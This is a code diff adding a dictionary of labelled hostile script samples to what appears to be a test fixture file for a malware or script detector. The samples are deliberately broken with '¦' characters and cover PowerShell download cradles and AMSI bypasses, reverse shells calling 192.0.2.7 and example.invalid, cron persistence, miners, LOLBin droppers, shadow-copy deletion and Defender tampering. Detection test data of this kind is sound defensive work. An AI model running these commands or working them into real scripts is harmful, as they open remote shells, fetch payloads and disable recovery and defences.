@@ -263,3 +263,103 @@ PAIRS = {
         ),
     ),
 }
+
+ALSO = {
+    "PowerShell_Encoded_Command": [
+        text(f"pwsh -NoProfile -EncodedCommand {HELLO}"),
+        text(f'cmd /c "power¦shell -ep bypass -ec {HELLO}"').decode().encode("utf-16-le"),
+        text(f"powershell -noni -e {HELLO}"),
+    ],
+    "PowerShell_Download_Cradle": [
+        text("iw¦r -useb http://192.0.2.7/a.ps1 | ie¦x"),
+        text("Invoke-Expre¦ssion (New-Object System.Net.WebClient).('Dow' + 'nl' + 'oadString')").replace(
+            b".('Dow' + 'nl' + 'oadString')", b".DownloadData($a); 'dow'+'nloadString'"
+        ),
+    ],
+    "PowerShell_AMSI_Bypass": [
+        text("$a='System.Management.Automation.A'+'msiUt'+'ils';$b='amsi'+'Init'+'Failed'; x.SetVa¦lue($null, $true)"),
+        text(
+            "GetProc¦Address(LoadLib¦rary('am¦si.dll'), 'AmsiScan¦Buffer'); VirtualPro¦tect($p, 5, 0x40, [ref]$o);"
+            "[System.Runtime.InteropServices.Marshal]::Copy($b, 0, $p, 6)"
+        ),
+    ],
+    "Shell_Download_And_Execute": [
+        text(
+            "#!/usr/bin/env bash\ncu¦rl -s -o /dev/shm/.x http://example.invalid/x; chmod +x /dev/shm/.x\n"
+            "nohup /dev/shm/x &\nrm $0\n"
+        ),
+    ],
+    "Shell_Pipe_To_Shell_Hidden": [
+        text("#!/bin/sh\nwg¦et -qO- https://example.invalid/x.sh | sh >/dev/null 2>&1 &\n"),
+        text("#!/bin/sh\n(cu¦rl -fsSL http://example.invalid/x || wg¦et -q -O- http://example.invalid/x) | bash\n"),
+    ],
+    "Reverse_Shell_Bash": [
+        text("bash -c 'ba¦sh -i >& /dev/t¦cp/192.0.2.7/4444 0>&1'\n"),
+        text("* * * * * root bash -c 'ba¦sh -i >& /dev/t¦cp/192.0.2.7/4444 0>&1'\n"),
+        text("#!/bin/bash\nexec 5<>/dev/t¦cp/192.0.2.7/4444\ncat <&5 | while read l; do $l 2>&5 >&5; done\n"),
+    ],
+    "Reverse_Shell_Python": [
+        text(
+            'import socket,subprocess,os;s=socket.soc¦ket(socket.AF_INET);s.connect(("192.0.2.7",4444));'
+            'os.du¦p2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'
+        ),
+    ],
+    "Reverse_Shell_Perl": [
+        text(
+            'use IO::Soc¦ket;$c=new IO::Socket::INET(PeerAddr,"192.0.2.7:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);'
+            "system$_ while<>;"
+        ),
+    ],
+    "Reverse_Shell_Netcat": [
+        text("#!/bin/sh\nn¦c 192.0.2.7 4444 -e /bin/sh\n"),
+        text("#!/bin/bash\nnohup nc¦at example.invalid 4444 -c bash &\n"),
+    ],
+    "Cron_Download_Persistence": [
+        text("#!/bin/sh\necho '* * * * * root wg¦et -q -O- http://example.invalid/a | bash' >> /etc/cron¦tab\n"),
+        text("#!/bin/sh\necho '*/9 * * * * cu¦rl http://example.invalid/a | sh' > /tmp/c\ncron¦tab /tmp/c\n"),
+    ],
+    "Miner_Install_Script": [
+        text(f"#!/bin/sh\nkill¦all kin¦sing\n./w -o pool.example.invalid:3333 -u {WALLET} -B\n"),
+    ],
+    "Miner_Configuration": [miner(background=False).replace(b"{", b'{"donate-level": 0, ', 1)],
+    "Batch_Certutil_Download": [
+        text("@echo off\nset u=x\ncert¦util.exe -url¦cache -f http://example.invalid/a.txt a.txt && %TEMP%\\a.exe\n"),
+    ],
+    "Mshta_Inline_Script": [
+        text('msh¦ta.exe javascript:a=GetObject("script:http://example.invalid/a.sct");a.Exec();close();'),
+    ],
+    "Regsvr32_Remote_Scriptlet": [
+        text('CreateObject("WScript.Shell").Run "regs¦vr32 /u /n /s /i:https://example.invalid/a scr¦obj.dll"'),
+    ],
+    "VBScript_Dropper": [
+        text(
+            'Set d = CreateObject("MSXML2.DOMDocument")\r\nx.dataType = "bin.base¦64"\r\n'
+            'Set s = CreateObject("ADO¦DB.Stream")\r\ns.SaveTo¦File p, 2\r\n'
+            'CreateObject("Shell.Application").ShellExe¦cute p\r\n'
+        ),
+    ],
+    "LNK_Starts_Script": [
+        lnk("msh¦ta.exe https://example.invalid/a.hta"),
+        lnk(f"powershell -e¦nc {HELLO}"),
+        lnk("cmd.exe /c findstr x report.lnk > %temp%\\a.js & wscript %temp%\\a.js"),
+    ],
+    "Windows_Recovery_Destruction": [
+        text("wm¦ic shadowcopy delete & wbad¦min delete catalog -quiet"),
+        b"MZ"
+        + bytes(64)
+        + text("vss¦admin.exe delete shad¦ows /all /quiet\0wevt¦util cl Security").replace(b"\0", b"\n"),
+    ],
+    "Windows_Defender_Tampering": [
+        text("sc stop WinDef¦end\nAdd-MpPref¦erence -ExclusionExtension .exe\niex $x\n"),
+    ],
+    "Python_Encoded_Stager": [
+        text(f"ex¦ec(__import__('zlib').decom¦press(__import__('base64').b64de¦code(b'{STAGER}')))"),
+        text(f"ev¦al(compile(base64.b85de¦code('{STAGER}'.encode()), 's', 'exec'))").replace(b"'.encode()", b"'"),
+    ],
+    "Python_Remote_Exec": [
+        text(
+            "import requests, subprocess\nsubprocess.CREATE_NO_WINDOW\n"
+            "ex¦ec(requests.get('https://example.invalid/a').text)\n"
+        ),
+    ],
+}
